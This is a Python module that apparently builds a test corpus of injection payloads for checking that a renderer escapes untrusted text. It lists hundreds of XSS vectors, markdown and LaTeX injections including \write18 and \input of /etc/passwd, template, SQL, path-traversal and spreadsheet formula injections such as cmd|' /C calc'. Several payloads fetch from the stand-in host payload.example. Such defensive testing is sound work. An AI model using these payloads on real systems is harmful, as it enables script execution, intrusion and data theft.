"""Words that would run a script, make an element or ask another host, were they taken for anything but words.

Each holds a number of its own. Where it runs it calls `nereval_ran`, elements that it makes have the class `zq`, and
addresses that it asks for are at HOST. Markup makes an element of the word `zq` and its number alone.
"""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product

HOST = "payload.example"
MADE = "zq"
FORMULAS = ("=", "+", "-", "@", "\t=", "\r=", "\n=")
"""What a cell of a spreadsheet that is a formula begins with."""

ELEMENTS = (
    "<script class=zq>{run}</script>",
    "<script class=zq src='//{host}/{n}.js'></script>",
    "</script><script class=zq>{run}</script>",
    "</style><script class=zq>{run}</script>",
    "</title></textarea><script class=zq>{run}</script>",
    "--><script class=zq>{run}</script><!--",
    "]]><script class=zq>{run}</script>",
    "<scr<script>ipt class=zq>{run}</scr</script>ipt>",
    "<SCRIPT class=zq type=module>{run}</SCRIPT>",
    "<svg class=zq><script>{run}</script></svg>",
    '<svg class=zq><animate onbegin="{run}" attributeName=x dur=1s />',
    '<svg class=zq><a xlink:href="javascript:{run}"><text>zq{n}</text></a></svg>',
    "<svg class=zq><use href='data:image/svg+xml,<svg id=x onload={run}></svg>#x' /></svg>",
    "<svg class=zq><foreignObject><iframe srcdoc='<script>{run}</script>'></iframe></foreignObject></svg>",
    '<math class=zq><mtext><img src=x onerror="{run}"></mtext></math>',
    '<math class=zq href="javascript:{run}">zq{n}</math>',
    '<iframe class=zq srcdoc="<script>parent.{run}</script>"></iframe>',
    '<iframe class=zq src="javascript:{run}"></iframe>',
    "<iframe class=zq src='https://{host}/{n}'></iframe>",
    '<object class=zq data="javascript:{run}"></object>',
    "<object class=zq data='https://{host}/{n}'></object>",
    '<embed class=zq src="javascript:{run}">',
    "<embed class=zq src='https://{host}/{n}.swf'>",
    '<a class=zq href="javascript:{run}">zq{n}</a>',
    '<a class=zq href="java&#x0A;script:{run}">zq{n}</a>',
    "<a class=zq href='https://{host}/{n}' ping='https://{host}/p'>zq{n}</a>",
    '<form class=zq action="javascript:{run}"><input type=submit autofocus></form>',
    "<form class=zq action='https://{host}/{n}'><button>zq{n}</button></form>",
    '<button class=zq formaction="javascript:{run}">zq{n}</button>',
    "<base class=zq href='https://{host}/'>",
    "<link class=zq rel=stylesheet href='https://{host}/{n}.css'>",
    "<link class=zq rel=prefetch href='https://{host}/{n}'>",
    "<meta class=zq http-equiv=refresh content='0;url=https://{host}/{n}'>",
    "<meta class=zq http-equiv=refresh content='0;url=javascript:{run}'>",
    "<style class=zq>@import 'https://{host}/{n}.css';</style>",
    "<style class=zq>*{{background:url(https://{host}/{n}.png)}}</style>",
    '<div class=zq style="background:url(https://{host}/{n}.png)">zq{n}</div>',
    '<div class=zq style="position:fixed;inset:0">zq{n}</div>',
    '<template class=zq shadowrootmode=open><img src=x onerror="{run}"></template>',
    '<noscript><p title="</noscript><img class=zq src=x onerror={run}>">',
    '<xmp><p title="</xmp><img class=zq src=x onerror={run}>">',
    '<![CDATA[<img class=zq src=x onerror="{run}">]]>',
    "<?xml version='1.0'?><x:script class=zq xmlns:x='http://www.w3.org/1999/xhtml'>{run}</x:script>",
    "&lt;img class=zq src=x onerror={run}&gt;",
    "&#60;img class=zq src=x onerror={run}&#62;",
    "\\u003cimg class=zq src=x onerror={run}\\u003e",
    "%3Cimg class=zq src=x onerror={run}%3E",
    "\uff1cimg class=zq src=x onerror={run}\uff1e",
    "<img class=zq src=x\x0conerror={run}>",
    "<b class=zq>zq{n}</b>",
)
TAGS = (
    "img",
    "image",
    "svg",
    "body",
    "video",
    "audio",
    "input",
    "details",
    "marquee",
    "div",
    "select",
    "textarea",
    "p",
)
EVENTS = (
    *("onerror", "onload", "onfocus", "onmouseover", "onmouseenter", "onpointermove", "onclick", "ontoggle"),
    *("onanimationstart", "onbeforeinput", "onwheel", "onscroll"),
)
BREAKS = ('"', "'", '">', "'>", "`", '" ', "' ")
"""What ends an attribute in which a word may stand."""
MARKDOWN = (
    "[zq{n}](https://{host}/{n})",
    "[zq{n}](javascript:{run})",
    "[zq{n}](data:text/html,<script>{run}</script>)",
    "[zq{n}][1]\n\n[1]: https://{host}/{n}",
    "[zq{n}]: https://{host}/{n}",
    "![zq{n}](https://{host}/{n}.png)",
    '![zq{n}](x "y" onerror={run})',
    "<https://{host}/{n}>",
    "<javascript:{run}>",
    "https://{host}/{n}",
    "www.{host}/{n}",
    "zq{n}@{host}",
    "mailto:zq{n}@{host}",
    "**zq{n}**",
    "__zq{n}__",
    "*zq{n}*",
    "_zq{n}_",
    "~~zq{n}~~",
    "`zq{n}`",
    "```\nzq{n}\n```",
    "# zq{n}",
    "zq{n}\n===",
    "- zq{n}",
    "1. zq{n}",
    "> zq{n}",
    "| zq{n} | b |\n|---|---|\n| c | d |",
    "zq{n}[^1]\n\n[^1]: note",
    "\n\n---\n\nzq{n}",
    "x\n\n    zq{n}",
    "\\*zq{n}\\*",
    "&copy;zq{n}&nbsp;&#x41;",
)
DIRECTIVES = (
    ":material/skull:",
    ":smile: :skull:",
    ":streamlit:",
    ":red[zq{n}]",
    ":red-background[zq{n}]",
    ":red-badge[zq{n}]",
    ':color[zq{n}]{{foreground="red"}}',
    ":small[zq{n}]",
    ":rainbow[zq{n}]",
    ":kbd[zq{n}]",
    ":shortcut[zq{n}]",
    ":help[zq{n}]",
    "$zq{n}$",
    "$$zq{n}$$",
    "$\\href{{https://{host}/{n}}}{{zq{n}}}$",
    "$\\href{{javascript:{run}}}{{zq{n}}}$",
    "$\\url{{https://{host}/{n}}}$",
    "$\\includegraphics{{https://{host}/{n}.png}}$",
    "$\\htmlClass{{zq}}{{zq{n}}}$",
    "\\(\\href{{javascript:{run}}}{{zq{n}}}\\)",
    "\\input{{/etc/passwd}}zq{n}",
    "\\write18{{touch zq{n}}}",
)
TEMPLATES = (
    "{{{{constructor.constructor('{run}')()}}}}",
    "${{{run}}}",
    "#{{{run}}}",
    "<%= {run} %>",
    "{{% raw %}}{run}",
    "{{0.__class__.__mro__}}",
    "%(zq)s %n %s",
    "{{zq{n}!r}}",
    "javascript:{run}",
    "JaVaScRiPt:{run}",
    "\tjavascript:{run}",
    "java\tscript:{run}//",
    "vbscript:msgbox({n})",
    "data:text/html,<script>{run}</script>",
    "data:image/svg+xml,<svg onload='{run}'>",
    "//{host}/{n}",
    "\\\\{host}\\{n}",
    "';{run}//",
    '";{run}//',
    "`;{run}//",
    "</script>{run}",
    "\u2028{run}\u2029",
    "*/{run}/*",
    "-->{run}",
    "__proto__",
    "constructor",
    "../../../../etc/passwd",
    "%2e%2e%2f%2e%2e%2fetc",
    "C:\\zq{n}",
    "file:///etc/passwd",
    "}}body{{background:url(https://{host}/{n})}}",
    "red;background:url(https://{host}/{n})",
    "expression({run})",
    "url(javascript:{run})",
    "';DROP TABLE verdict_event;--",
    '" OR 1=1 --',
)
PICTURES = (
    '<a href="https://{host}/{n}">zq{n}</a>',
    '<a href="javascript:{run}">zq{n}</a>',
    "<b>zq{n}</b><br><sup>{n}</sup>",
    '<span style="background:url(https://{host}/{n})">zq{n}</span>',
    "%{{x}}%{{y}}%{{customdata}}<extra>zq{n}</extra>",
    "%{{meta.{run}}}",
    "datum.zq{n} || {run}",
    '{{"signal": "{run}"}}',
    '{{"url": "https://{host}/{n}.json"}}',
)
ORDER_OF_LETTERS = (
    "\u202ezr{n}\u202c",
    "\u2066zr{n}",
    "\u202dzr{n}\u2069",
    "\u200fzr{n}\u061c",
    "zr{n}\ufeff\u200b\u00ad",
    "\u202e<img class=zq src=x onerror={run}>",
    "zr{n}\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301",
    "\U000e0041\U000e0042zr{n}",
)
CELLS = (
    'HYPERLINK("https://{host}/{n}","zq{n}")',
    "cmd|' /C calc'!A{n}",
    "1+{n}",
)


def payloads() -> list[str]:
    """Return all of them, each different."""
    return list(dict.fromkeys(_written()))


def families() -> dict[str, list[str]]:
    """Return the payloads by what they are written for, the order of `payloads` kept."""
    found: dict[str, list[str]] = {}
    for number, (family, template) in enumerate(_templates(), start=1):
        run = f"nereval_ran({number})"
        found.setdefault(family, []).append(template.format(run=run, host=HOST, n=number))
    return found


def _written() -> Iterator[str]:
    for found in families().values():
        yield from found


def _templates() -> Iterator[tuple[str, str]]:
    for family, templates in (
        ("elements", ELEMENTS),
        ("markdown", MARKDOWN),
        ("directives", DIRECTIVES),
        ("templates", TEMPLATES),
        ("pictures", PICTURES),
        ("letters", ORDER_OF_LETTERS),
    ):
        for template in templates:
            yield family, template
    for tag, event in product(TAGS, EVENTS):
        yield "handlers", f'<{tag} class=zq {event}="{{run}}" src=x autofocus open contenteditable>zq{{n}}'
    for end, event in product(BREAKS, ("onfocus", "onmouseover")):
        yield "attributes", f"{end} class=zq {event}={{run}} autofocus x={end}"
    for sign, cell in product(FORMULAS, CELLS):
        yield "formulas", sign + cell
